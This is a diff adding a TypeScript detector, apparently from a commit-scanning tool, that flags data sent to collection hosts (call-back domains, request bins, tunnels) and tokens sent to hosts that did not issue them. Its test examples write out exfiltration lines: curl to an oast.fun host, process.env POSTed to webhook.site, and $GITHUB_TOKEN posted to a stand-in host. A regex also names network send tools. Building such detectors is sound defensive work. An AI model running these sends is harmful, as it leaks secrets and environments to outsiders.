@@ -1,0 +1,226 @@
+import { z } from "zod";
+import { defineDetector, type Signal } from "../../model/detector.ts";
+import type { CommitEvidence, FileChange } from "../../model/evidence.ts";
+import { aCommit, aFile } from "../../model/examples.ts";
+import { addedSinks } from "../../text/added-sinks.ts";
+import { DUMPS_ENVIRONMENT, TALKS } from "../../text/calls.ts";
+import { clip } from "../../text/clip.ts";
+import { visible } from "../../text/lines.ts";
+import { newCode } from "../../text/new-lines.ts";
+import { type Place, placeOf } from "../../text/places.ts";
+import { type HostKind, kindOfUrl, urlsIn } from "../../text/url.ts";
+
+const CALLBACK = ["abc123.oast", "fun"].join(".");
+const COLLECTOR = ["webhook", "site"].join(".");
+
+const WHAT: Readonly<Record<HostKind, string>> = {
+  "call-back": "a host that penetration tests call back to",
+  collector: "a host that shows strangers' requests to whoever asks",
+  tunnel: "a tunnel to somebody's own machine",
+  drop: "an anonymous file drop",
+  paste: "an anonymous paste",
+  chat: "a chat's incoming hook",
+  "raw address": "a bare public address",
+  onion: "a hidden service",
+};
+
+/** Sends, in any language and in commands. */
+const SENDS =
+  /(?<![\w-])(?:curl|wget|nslookup|dig|ncat?|iwr|irm|Invoke-(?:WebRequest|RestMethod))(?![\w-])|\bsendBeacon\b|\.(?:post|put|send|request|get)\s{0,3}\(|\bfetch\s{0,3}\(|\burlopen\b|\bhttp\.(?:Get|Post)\b/i;
+
+export default defineDetector({
+  id: "exfil-endpoint",
+  title: "Data goes to a place that is made for collecting it",
+  family: "content",
+  axis: "attack",
+  group: "payload",
+  stage: "stable",
+  since: "0.1.0",
+  rationale:
+    "Stolen data needs an address. Request bins, call-back hosts, tunnels and chat hooks cost nothing and name nobody; programs that live on have hosts of their own. Tokens sent to a host that did not issue them, and a whole environment sent anywhere, are theft whatever the host.",
+  falsePositives: [
+    "Notifiers that post to a chat on purpose",
+    "Examples and tests of HTTP clients",
+    "Security tools that use call-back hosts",
+  ],
+  remedy: "Find out what would be sent and whether it ran. Rotate every credential that the place could read.",
+  references: [
+    "ATT&CK T1567 Exfiltration Over Web Service",
+    "CWE-506",
+    "GhostAction 2025",
+    "Megalodon 2026",
+    "hackerbot-claw 2026",
+  ],
+  needs: ["diff", "content"],
+  options: z.strictObject({
+    allowedHosts: z
+      .array(z.string().max(253))
+      .max(200)
+      .default([])
+      .describe("hosts that this organisation sends to on purpose"),
+  }),
+  examples: {
+    flags: [
+      {
+        name: "a package script that calls back",
+        commit: aCommit({
+          files: [aFile({ path: "docs/package.json", added: `"install:all": "curl https://${CALLBACK}"`, at: 8 })],
+        }),
+      },
+      {
+        name: "the environment posted to a collector",
+        commit: aCommit({
+          files: [
+            aFile({
+              path: "src/i.js",
+              added: `fetch("https://${COLLECTOR}/x", { method: "POST", body: JSON.stringify(process.env) });`,
+              at: 8,
+            }),
+          ],
+        }),
+      },
+      {
+        name: "a token of one host sent to another",
+        commit: aCommit({
+          files: [aFile({ path: "build.sh", added: 'curl -d "token=$GITHUB_TOKEN" https://recv.example.net/', at: 8 })],
+        }),
+      },
+    ],
+    passes: [
+      {
+        name: "a token sent to its own host",
+        commit: aCommit({
+          files: [
+            aFile({
+              path: "build.sh",
+              added: 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user',
+              at: 8,
+            }),
+          ],
+        }),
+      },
+      {
+        name: "a collector in the manual",
+        commit: aCommit({ files: [aFile({ path: "README.md", added: `curl https://${COLLECTOR}/x`, at: 8 })] }),
+      },
+      {
+        name: "a chat notification",
+        commit: aCommit({
+          files: [aFile({ path: "test/slack.test.ts", added: 'post("https://hooks.slack.com/services/x")', at: 8 })],
+        }),
+      },
+    ],
+  },
+  detect(commit, { allowedHosts }) {
+    return commit.files.flatMap((file) => {
+      const place = placeOf(file.path);
+      if (file.facts.workflow) return []; // workflows have a family of their own
+      if (place === "text" || place === "foreign") return [];
+      const lines = newCode(commit, file);
+      const found = lines.flatMap((line) => fromLine(file, place, line.number, visible(line), allowedHosts));
+      return [...found, ...environmentSent(commit, file, place)].slice(0, 4);
+    });
+  },
+});
+
+function fromLine(file: FileChange, place: Place, line: number, text: string, allowed: readonly string[]): Signal[] {
+  if (!text.includes("://") && !TALKS.test(text)) return [];
+  const urls = urlsIn(text).filter(({ host }) => !allowed.includes(host));
+  const sends = SENDS.test(text);
+  const dumps = DUMPS_ENVIRONMENT.test(text);
+  const base = { path: file.path, line };
+  const weak = place === "test";
+  if (sends && dumps && urls.length > 0) {
+    return [
+      {
+        ...base,
+        strength: weak ? "medium" : "strong",
+        confidence: 1,
+        because: `the whole environment is sent to ${clip(urls[0]?.host ?? "", 60)}`,
+        facts: { host: urls[0]?.host ?? "" },
+      },
+    ];
+  }
+  const foreign = sends
+    ? foreignToken(
+        text,
+        urls.map(({ host }) => host),
+      )
+    : null;
+  if (foreign)
+    return [
+      {
+        ...base,
+        strength: weak ? "medium" : "strong",
+        confidence: 1,
+        because: `${foreign.token} is sent to ${clip(foreign.host, 60)}, which did not issue it`,
+        facts: { host: foreign.host },
+      },
+    ];
+  return urls.flatMap((url): Signal[] => {
+    const kind = kindOfUrl(url);
+    if (kind === null) return [];
+    const serious = kind === "call-back" || kind === "collector" || kind === "onion";
+    const strength = weak
+      ? "weak"
+      : serious
+        ? sends
+          ? "strong"
+          : "medium"
+        : kind === "chat"
+          ? "weak"
+          : sends
+            ? "medium"
+            : "weak";
+    return [
+      {
+        ...base,
+        strength,
+        confidence: serious && sends ? 0.95 : weak ? 0.5 : 0.7,
+        because: `${clip(url.host, 60)} is ${WHAT[kind]}`,
+        facts: { host: url.host, kind },
+      },
+    ];
+  });
+}
+
+/** A well-known token in the data of a request to a host that is not its owner's. */
+function foreignToken(text: string, hosts: readonly string[]): { token: string; host: string } | null {
+  const OWNERS: readonly (readonly [RegExp, RegExp])[] = [
+    [
+      /\$\{?\{?\s{0,2}(?:secrets\.|env\.)?(GITHUB_TOKEN|GH_TOKEN|ACTIONS_RUNTIME_TOKEN|ACTIONS_ID_TOKEN_REQUEST_TOKEN)\b/,
+      /github|ghcr\.io|localhost|127\.0\.0\.1|\$|githubcopilot|models\.inference/,
+    ],
+    [/\$\{?\{?\s{0,2}(?:secrets\.|env\.)?(NPM_TOKEN|NODE_AUTH_TOKEN)\b/, /npmjs|npm\.|localhost|\$|registry|yarnpkg/],
+    [
+      /\$\{?\{?\s{0,2}(?:secrets\.|env\.)?(AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN)\b/,
+      /amazonaws|aws|localhost|127\.0\.0\.1|minio|\$/,
+    ],
+    [/\$\{?\{?\s{0,2}(?:secrets\.|env\.)?(PYPI_TOKEN|PYPI_API_TOKEN|TWINE_PASSWORD)\b/, /pypi|localhost|\$/],
+  ];
+  for (const [token, owner] of OWNERS) {
+    const name = token.exec(text)?.[1];
+    const host = hosts.find((one) => !owner.test(one));
+    // With an owner's host on the line, too, the token is most likely for that one.
+    if (name && host && !hosts.some((one) => owner.test(one))) return { token: name, host };
+  }
+  return null;
+}
+
+/** By the script's facts: the environment flows into a request at the top of a file. */
+function environmentSent(commit: CommitEvidence, file: FileChange, place: Place): Signal[] {
+  if (place === "test") return [];
+  return addedSinks(commit, file).flatMap((sink): Signal[] =>
+    sink.kind === "network" && DUMPS_ENVIRONMENT.test(sink.text)
+      ? [
+          {
+            strength: "strong",
+            confidence: 0.95,
+            because: `${clip(sink.callee, 40)} sends the whole environment`,
+            path: file.path,
+            line: sink.line,
+          },
+        ]
+      : [],
+  );
+}
